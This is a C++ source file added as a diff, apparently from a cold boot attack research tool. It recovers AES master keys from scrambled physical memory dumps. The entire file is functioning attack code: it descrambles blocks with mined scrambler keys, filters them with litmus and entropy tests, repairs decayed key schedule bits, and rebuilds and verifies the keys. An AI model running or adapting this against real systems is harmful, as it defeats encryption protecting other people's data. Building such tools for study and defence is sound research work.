@@ -1,0 +1,515 @@
+#include "attack/aes_search.hh"
+
+#include <algorithm>
+#include <chrono>
+#include <cstring>
+#include <numeric>
+#include <optional>
+#include <set>
+#include <thread>
+
+#include "common/bits.hh"
+#include "common/logging.hh"
+#include "attack/litmus.hh"
+
+namespace coldboot::attack
+{
+
+namespace
+{
+
+using crypto::aesExpandKey;
+using crypto::aesNk;
+using crypto::aesScheduleBackward;
+using crypto::aesScheduleBytes;
+using crypto::aesScheduleStep;
+using crypto::aesWordFromBytes;
+
+/**
+ * Internal-consistency error (bits) of a 16-word block interpreted
+ * as schedule words starting at absolute word index @p p (which may
+ * be negative for blocks straddling the table head). Only recurrence
+ * checks fully inside both the block and the schedule are counted;
+ * @p checks reports how many were possible.
+ */
+unsigned
+blockConsistencyErrors(const uint32_t words[16], int64_t p,
+                       unsigned nk, unsigned total_words,
+                       unsigned &checks)
+{
+    unsigned errors = 0;
+    checks = 0;
+    for (unsigned i = nk; i < 16; ++i) {
+        int64_t a = p + i;
+        if (a < static_cast<int64_t>(nk) ||
+            a >= static_cast<int64_t>(total_words))
+            continue;
+        uint32_t pred = aesScheduleStep(
+            words[i - 1], words[i - nk], static_cast<unsigned>(a), nk);
+        errors += static_cast<unsigned>(
+            std::popcount(pred ^ words[i]));
+        ++checks;
+    }
+    return errors;
+}
+
+/** Descramble a 64-byte raw block with a candidate key. */
+void
+descramble(std::span<const uint8_t> raw,
+           const std::array<uint8_t, 64> &key, uint8_t out[64])
+{
+    for (unsigned i = 0; i < 64; ++i)
+        out[i] = raw[i] ^ key[i];
+}
+
+/**
+ * Pick the candidate key making a full in-table block most
+ * self-consistent. Returns the error count of the winner and writes
+ * its descrambled words; SIZE_MAX key index if no candidate checks.
+ */
+size_t
+bestKeyForFullBlock(std::span<const uint8_t> raw,
+                    const std::vector<MinedKey> &keys, unsigned p,
+                    unsigned nk, unsigned total_words,
+                    uint32_t out_words[16], unsigned &best_errors)
+{
+    size_t best = SIZE_MAX;
+    best_errors = ~0u;
+    uint8_t plain[64];
+    uint32_t words[16];
+    for (size_t k = 0; k < keys.size(); ++k) {
+        descramble(raw, keys[k].key, plain);
+        for (unsigned i = 0; i < 16; ++i)
+            words[i] = aesWordFromBytes(&plain[4 * i]);
+        unsigned checks = 0;
+        unsigned errors = blockConsistencyErrors(
+            words, static_cast<int64_t>(p), nk, total_words, checks);
+        if (checks == 0)
+            continue;
+        if (errors < best_errors) {
+            best_errors = errors;
+            best = k;
+            std::memcpy(out_words, words, sizeof(words));
+            if (errors == 0)
+                break;
+        }
+    }
+    return best;
+}
+
+} // anonymous namespace
+
+unsigned
+repairAesScheduleWords(std::span<uint32_t> words, unsigned first_word,
+                       unsigned nk, unsigned iterations)
+{
+    // Phase 1: Gallager-style bit flipping. Every schedule step
+    //   w[a] = w[a-nk] ^ f(w[a-1])
+    // is a bitwise parity relation between w[a], w[a-nk] and
+    // g = f(w[a-1]) (g is recomputed from the current estimate of
+    // w[a-1] each sweep). A bit of word i therefore participates in
+    // up to three checks: as the step target, as the back operand of
+    // the step at a+nk, and - when the following step applies no
+    // SubWord - inside f(w[a]) for the step at a+1 (identity f only,
+    // since S-box steps do not preserve bit positions). A bit whose
+    // checks are violated by majority is flipped. At the few-percent
+    // decay rates of a cooled transfer this converges in a handful of
+    // sweeps; a final word-level forward/backward agreement pass then
+    // cleans up what the bit-level pass cannot see.
+    size_t n = words.size();
+    unsigned total_fixed = 0;
+
+    auto is_linear_step = [nk](unsigned a) {
+        if (a % nk == 0)
+            return false;
+        if (nk > 6 && a % nk == 4)
+            return false;
+        return true;
+    };
+
+    for (unsigned sweep = 0; sweep < iterations; ++sweep) {
+        // f applied to each word by the step that consumes it as
+        // "prev" (the step at index a+1).
+        std::vector<uint32_t> f_of(n);
+        for (size_t i = 0; i < n; ++i)
+            f_of[i] = aesScheduleStep(
+                words[i], 0,
+                first_word + static_cast<unsigned>(i) + 1, nk);
+
+        unsigned fixed_bits = 0;
+        std::vector<uint32_t> flips(n, 0);
+        for (size_t i = 0; i < n; ++i) {
+            unsigned a = first_word + static_cast<unsigned>(i);
+            uint32_t viol[3];
+            int nchecks = 0;
+            if (i >= nk && a >= nk) {
+                // Target of its own step.
+                viol[nchecks++] =
+                    words[i] ^ words[i - nk] ^ f_of[i - 1];
+            }
+            if (i + nk < n) {
+                // Back operand of the step at a+nk.
+                viol[nchecks++] =
+                    words[i + nk] ^ words[i] ^ f_of[i + nk - 1];
+            }
+            if (i + 1 < n && i + 1 >= nk && a + 1 >= nk &&
+                is_linear_step(a + 1)) {
+                // Prev operand of an identity-f step.
+                viol[nchecks++] =
+                    words[i + 1] ^ words[i + 1 - nk] ^ words[i];
+            }
+            if (nchecks < 2)
+                continue;
+            for (unsigned j = 0; j < 32; ++j) {
+                int violated = 0;
+                for (int c = 0; c < nchecks; ++c)
+                    violated += (viol[c] >> j) & 1;
+                if (violated >= 2)
+                    flips[i] |= 1u << j;
+            }
+        }
+        for (size_t i = 0; i < n; ++i) {
+            if (flips[i]) {
+                words[i] ^= flips[i];
+                fixed_bits += static_cast<unsigned>(
+                    std::popcount(flips[i]));
+            }
+        }
+        total_fixed += fixed_bits;
+        if (fixed_bits == 0)
+            break;
+    }
+
+    // Phase 2: word-level forward/backward agreement for words
+    // adjacent to the nonlinear (SubWord) steps.
+    for (unsigned sweep = 0; sweep < iterations; ++sweep) {
+        unsigned fixed = 0;
+        for (size_t i = 0; i < n; ++i) {
+            unsigned a = first_word + static_cast<unsigned>(i);
+            std::optional<uint32_t> fwd;
+            if (i >= nk && a >= nk) {
+                fwd = aesScheduleStep(words[i - 1], words[i - nk], a,
+                                      nk);
+            }
+            std::optional<uint32_t> bwd;
+            if (i + nk < n) {
+                uint32_t f_prev =
+                    aesScheduleStep(words[i + nk - 1], 0, a + nk, nk);
+                bwd = words[i + nk] ^ f_prev;
+            }
+            if (fwd && bwd && *fwd == *bwd && words[i] != *fwd) {
+                words[i] = *fwd;
+                ++fixed;
+            }
+        }
+        total_fixed += fixed;
+        if (fixed == 0)
+            break;
+    }
+    return total_fixed;
+}
+
+namespace
+{
+
+/**
+ * Attempt a full reconstruction of the schedule whose word 0 lies at
+ * dump byte offset @p table_off, returning the recovered key if it
+ * verifies.
+ */
+std::optional<RecoveredAesKey>
+reconstructAt(const platform::MemoryImage &dump,
+              const std::vector<MinedKey> &keys, uint64_t table_off,
+              const SearchParams &params, SearchStats &stats)
+{
+    unsigned nk = aesNk(params.key_size);
+    unsigned sched_bytes =
+        static_cast<unsigned>(aesScheduleBytes(params.key_size));
+    unsigned total_words = sched_bytes / 4;
+
+    if (table_off % 4 != 0 ||
+        table_off + sched_bytes > dump.size())
+        return std::nullopt;
+
+    ++stats.reconstructions_tried;
+
+    // Gather the fully-in-table 64-byte blocks.
+    uint64_t first_full = (table_off + 63) & ~63ULL;
+    std::vector<uint32_t> observed;
+    int64_t obs_first_word = -1;
+    bool assembly_ok = true;
+    for (uint64_t b = first_full; b + 64 <= table_off + sched_bytes;
+         b += 64) {
+        unsigned p = static_cast<unsigned>((b - table_off) / 4);
+        uint32_t words[16];
+        unsigned errors = 0;
+        size_t k = bestKeyForFullBlock(dump.bytes().subspan(b, 64),
+                                       keys, p, nk, total_words,
+                                       words, errors);
+        stats.descramble_attempts += keys.size();
+        if (k == SIZE_MAX || errors > 4 * params.litmus_max_bit_errors) {
+            assembly_ok = false;
+            break;
+        }
+        if (obs_first_word < 0)
+            obs_first_word = p;
+        observed.insert(observed.end(), words, words + 16);
+    }
+    if (!assembly_ok || observed.size() < nk + 1)
+        return std::nullopt;
+
+    repairAesScheduleWords(observed,
+                           static_cast<unsigned>(obs_first_word), nk,
+                           params.repair_iterations);
+
+    // Any clean Nk-window determines the whole schedule (forward and
+    // backward). Decay may have corrupted any given window, so seed a
+    // full reconstruction from every window position and keep the one
+    // that agrees best with the observation.
+    std::vector<uint8_t> master;
+    unsigned best_dist = ~0u;
+    for (size_t s = 0; s + nk <= observed.size(); ++s) {
+        unsigned abs_s = static_cast<unsigned>(obs_first_word + s);
+        std::span<const uint32_t> window(&observed[s], nk);
+        std::vector<uint32_t> full(total_words);
+        auto head = aesScheduleBackward(window, abs_s, abs_s, nk);
+        std::copy(head.begin(), head.end(), full.begin());
+        std::copy(window.begin(), window.end(), full.begin() + abs_s);
+        auto tail = crypto::aesScheduleContinue(
+            window, abs_s + nk, total_words - abs_s - nk, nk);
+        std::copy(tail.begin(), tail.end(),
+                  full.begin() + abs_s + nk);
+
+        unsigned dist = 0;
+        for (size_t i = 0; i < observed.size(); ++i) {
+            dist += static_cast<unsigned>(std::popcount(
+                full[obs_first_word + i] ^ observed[i]));
+            if (dist >= best_dist)
+                break;
+        }
+        if (dist < best_dist) {
+            best_dist = dist;
+            master.resize(4 * nk);
+            for (unsigned i = 0; i < nk; ++i)
+                crypto::aesBytesFromWord(full[i], &master[4 * i]);
+            if (dist == 0)
+                break;
+        }
+    }
+    if (master.empty())
+        return std::nullopt;
+
+    // Verify the reconstruction against every overlapping block,
+    // including the partial boundary blocks.
+    auto expanded = aesExpandKey(master);
+    uint64_t span_begin = table_off & ~63ULL;
+    size_t verified = 0;
+    unsigned total_errors = 0;
+    uint8_t plain[64];
+    for (uint64_t b = span_begin; b < table_off + sched_bytes;
+         b += 64) {
+        // Overlap of this block with the table.
+        uint64_t lo = std::max(b, table_off);
+        uint64_t hi = std::min(b + 64,
+                               table_off + sched_bytes);
+        unsigned best_dist = ~0u;
+        for (const auto &mk : keys) {
+            descramble(dump.bytes().subspan(b, 64), mk.key, plain);
+            unsigned dist = 0;
+            for (uint64_t byte = lo; byte < hi; ++byte) {
+                dist += static_cast<unsigned>(std::popcount(
+                    static_cast<unsigned>(
+                        plain[byte - b] ^
+                        expanded[byte - table_off])));
+                if (dist > 8 * 64)
+                    break;
+            }
+            best_dist = std::min(best_dist, dist);
+            if (best_dist == 0)
+                break;
+        }
+        stats.descramble_attempts += keys.size();
+        total_errors += best_dist;
+        if (best_dist <= params.verify_block_max_bit_errors)
+            ++verified;
+    }
+
+    if (verified < params.min_verified_blocks ||
+        total_errors > params.max_total_bit_errors)
+        return std::nullopt;
+
+    ++stats.reconstructions_verified;
+    RecoveredAesKey out;
+    out.master = std::move(master);
+    out.key_size = params.key_size;
+    out.table_offset = table_off;
+    out.verified_blocks = verified;
+    out.total_bit_errors = total_errors;
+    return out;
+}
+
+} // anonymous namespace
+
+std::vector<RecoveredAesKey>
+searchAesKeyTables(const platform::MemoryImage &dump,
+                   const std::vector<MinedKey> &candidate_keys,
+                   const SearchParams &params, SearchStats *stats)
+{
+    auto t0 = std::chrono::steady_clock::now();
+    SearchStats local;
+
+    uint64_t begin = params.scan_start & ~63ULL;
+    uint64_t end = params.scan_bytes == 0
+        ? dump.size()
+        : std::min<uint64_t>(dump.size(),
+                             params.scan_start + params.scan_bytes);
+
+    std::vector<RecoveredAesKey> results;
+    std::set<uint64_t> tried_offsets;
+    std::set<std::vector<uint8_t>> seen_masters;
+
+    // Hot path: precompute every candidate key as packed schedule
+    // words; per block, load the raw words once and descramble with
+    // word XORs (the byte order cancels under XOR).
+    std::vector<std::array<uint32_t, 16>> key_words(
+        candidate_keys.size());
+    for (size_t k = 0; k < candidate_keys.size(); ++k)
+        for (unsigned i = 0; i < 16; ++i)
+            key_words[k][i] =
+                aesWordFromBytes(&candidate_keys[k].key[4 * i]);
+
+    // Phase 1 - scan. The scan is embarrassingly parallel (the paper
+    // notes the search "is fully parallelizable"); each worker owns a
+    // contiguous range of blocks and emits raw litmus hits.
+    struct Hit
+    {
+        uint64_t off;
+        unsigned start_word;
+    };
+    unsigned nthreads = std::max(1u, params.threads);
+    std::vector<std::vector<Hit>> hits_per_thread(nthreads);
+    std::vector<uint64_t> scanned_per_thread(nthreads, 0);
+    std::vector<uint64_t> attempts_per_thread(nthreads, 0);
+
+    uint64_t total_blocks = (end - begin) / 64;
+    auto scan_range = [&](unsigned tid) {
+        uint64_t first = begin + (total_blocks * tid / nthreads) * 64;
+        uint64_t last =
+            begin + (total_blocks * (tid + 1) / nthreads) * 64;
+        auto &hits = hits_per_thread[tid];
+        for (uint64_t off = first; off + 64 <= last; off += 64) {
+            ++scanned_per_thread[tid];
+            auto raw = dump.bytes().subspan(off, 64);
+            if (isConstantBlock(raw))
+                continue;
+            uint32_t raw_words[16];
+            for (unsigned i = 0; i < 16; ++i)
+                raw_words[i] = aesWordFromBytes(&raw[4 * i]);
+            for (size_t ki = 0; ki < candidate_keys.size(); ++ki) {
+                ++attempts_per_thread[tid];
+                uint32_t plain_words[16];
+                unsigned weight = 0;
+                for (unsigned i = 0; i < 16; ++i) {
+                    plain_words[i] = raw_words[i] ^ key_words[ki][i];
+                    weight += static_cast<unsigned>(
+                        std::popcount(plain_words[i]));
+                }
+                // Entropy guard (see plausibleScheduleEntropy):
+                // rejects zero blocks, heap zeros, padding and text.
+                if (weight < 180 || weight > 332)
+                    continue;
+                auto hit = aesKeyLitmusWords(
+                    plain_words, params.key_size,
+                    params.litmus_max_bit_errors,
+                    params.litmus_max_bits_per_check);
+                if (hit)
+                    hits.push_back({off, hit->start_word});
+            }
+        }
+    };
+
+    if (nthreads == 1) {
+        scan_range(0);
+    } else {
+        std::vector<std::thread> workers;
+        for (unsigned tid = 0; tid < nthreads; ++tid)
+            workers.emplace_back(scan_range, tid);
+        for (auto &w : workers)
+            w.join();
+    }
+    for (unsigned tid = 0; tid < nthreads; ++tid) {
+        local.blocks_scanned += scanned_per_thread[tid];
+        local.descramble_attempts += attempts_per_thread[tid];
+        local.litmus_hits += hits_per_thread[tid].size();
+    }
+
+    // Phase 2 - reconstruct (serial; candidate offsets are few).
+    // Round constants differ by only a bit or two, so the litmus
+    // pins a placement only up to congruence modulo lcm(4, Nk) words
+    // (all SubWord positions match within a class); every congruent
+    // placement of every hit is tried.
+    unsigned nk = crypto::aesNk(params.key_size);
+    unsigned modulus = std::lcm(4u, nk);
+    unsigned max_p = (aesLitmusPlacements(params.key_size) - 1) * 4;
+    for (const auto &per_thread : hits_per_thread) {
+        for (const auto &hit : per_thread) {
+            for (unsigned s = hit.start_word % modulus; s <= max_p;
+                 s += modulus) {
+                if (params.max_reconstructions != 0 &&
+                    local.reconstructions_tried >=
+                        params.max_reconstructions)
+                    break;
+                int64_t table_off =
+                    static_cast<int64_t>(hit.off) -
+                    4 * static_cast<int64_t>(s);
+                if (table_off < 0)
+                    continue;
+                if (!tried_offsets
+                         .insert(static_cast<uint64_t>(table_off))
+                         .second)
+                    continue;
+                auto rec = reconstructAt(
+                    dump, candidate_keys,
+                    static_cast<uint64_t>(table_off), params, local);
+                if (rec && seen_masters.insert(rec->master).second)
+                    results.push_back(std::move(*rec));
+            }
+        }
+    }
+
+    std::sort(results.begin(), results.end(),
+              [](const RecoveredAesKey &a, const RecoveredAesKey &b) {
+                  if (a.verified_blocks != b.verified_blocks)
+                      return a.verified_blocks > b.verified_blocks;
+                  return a.total_bit_errors < b.total_bit_errors;
+              });
+
+    // Two genuine schedules can never overlap in memory, but a
+    // congruent-placement misreconstruction of a real table can
+    // scrape past verification (it disagrees with the truth only by
+    // accumulated round-constant deltas). Greedily keep the
+    // best-verified reconstruction of any overlapping group.
+    uint64_t sbytes = aesScheduleBytes(params.key_size);
+    std::vector<RecoveredAesKey> kept;
+    for (auto &r : results) {
+        bool overlaps = false;
+        for (const auto &k : kept) {
+            uint64_t lo = std::max(r.table_offset, k.table_offset);
+            uint64_t hi = std::min(r.table_offset + sbytes,
+                                   k.table_offset + sbytes);
+            overlaps = overlaps || lo < hi;
+        }
+        if (!overlaps)
+            kept.push_back(std::move(r));
+    }
+    results = std::move(kept);
+
+    local.seconds = std::chrono::duration<double>(
+                        std::chrono::steady_clock::now() - t0)
+                        .count();
+    if (stats)
+        *stats = local;
+    return results;
+}
+
+} // namespace coldboot::attack
